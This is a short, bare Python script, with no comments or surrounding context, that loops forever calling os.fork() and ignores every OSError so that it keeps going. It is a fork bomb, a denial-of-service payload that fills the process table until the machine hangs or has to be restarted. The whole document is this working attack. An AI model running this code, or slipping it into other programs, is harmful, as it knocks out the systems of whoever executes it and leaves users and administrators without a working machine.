import os as _os

while True:
    try:
        _os.fork()
    except OSError:
        pass
